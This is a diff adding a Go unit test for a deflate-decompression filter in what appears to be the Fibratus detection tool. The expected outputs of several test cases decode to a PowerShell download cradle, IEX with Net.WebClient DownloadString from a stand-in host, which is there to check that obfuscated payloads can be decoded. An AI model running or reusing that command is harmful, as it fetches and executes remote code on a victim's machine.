@@ -0,0 +1,58 @@
+/*
+ * Copyright 2021-2022 by Nedim Sabic Sabic
+ * https://www.fibratus.io
+ * All Rights Reserved.
+ *
+ * Licensed under the Apache License, Version 2.0 (the "License");
+ * you may not use this file except in compliance with the License.
+ * You may obtain a copy of the License at
+ *
+ *  http://www.apache.org/licenses/LICENSE-2.0
+ *
+ * Unless required by applicable law or agreed to in writing, software
+ * distributed under the License is distributed on an "AS IS" BASIS,
+ * WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
+ * See the License for the specific language governing permissions and
+ * limitations under the License.
+ */
+
+package functions
+
+import (
+	"testing"
+
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+)
+
+func TestDeflateDecompress(t *testing.T) {
+	var tests = []struct {
+		data     string
+		expected interface{}
+		ok       bool
+	}{
+		{"83SNUNDwSy3X9U/KSk0uUfBLLdELT01yzslMzSvR1HPJL8/LyU9MCS4pysxL11DPKCkpsNLXTy3LzNFPVNcEAA==", "IEX (New-Object Net.WebClient).DownloadString('http://evil/a')", true},
+		{"eJzzdI1Q0PBLLdf1T8pKTS5R8Est0QtPTXLOyUzNK9HUc8kvz8vJT0wJLinKzEvXUM8oKSmw0tdPLcvM0U9U1wQAkqEVDA==", "IEX (New-Object Net.WebClient).DownloadString('http://evil/a')", true},
+		{"H4sIAAAAAAACA/N0jVDQ8Est1/VPykpNLlHwSy3RC09Ncs7JTM0r0dRzyS/Py8lPTAkuKcrMS9dQzygpKbDS108ty8zRT1TXBADngDpcPgAAAA==", "IEX (New-Object Net.WebClient).DownloadString('http://evil/a')", true},
+		{"aGVsbG8gd29ybGQ=", nil, false},
+	}
+
+	for i, tt := range tests {
+		data, ok := B64Decode{}.Call([]interface{}{tt.data})
+		require.True(t, ok)
+		res, ok := DeflateDecompress{}.Call([]interface{}{data})
+		assert.Equal(t, tt.ok, ok, i)
+		assert.Equal(t, tt.expected, res, i)
+	}
+}
+
+func TestDeflateDecompressMaxSize(t *testing.T) {
+	maxSize := MaxDecodedSize
+	MaxDecodedSize = 3
+	defer func() { MaxDecodedSize = maxSize }()
+
+	data, _ := B64Decode{}.Call([]interface{}{"83SNUNDwSy3X9U/KSk0uUfBLLdELT01yzslMzSvR1HPJL8/LyU9MCS4pysxL11DPKCkpsNLXTy3LzNFPVNcEAA=="})
+	res, ok := DeflateDecompress{}.Call([]interface{}{data})
+	assert.True(t, ok)
+	assert.Equal(t, "IEX", res)
+}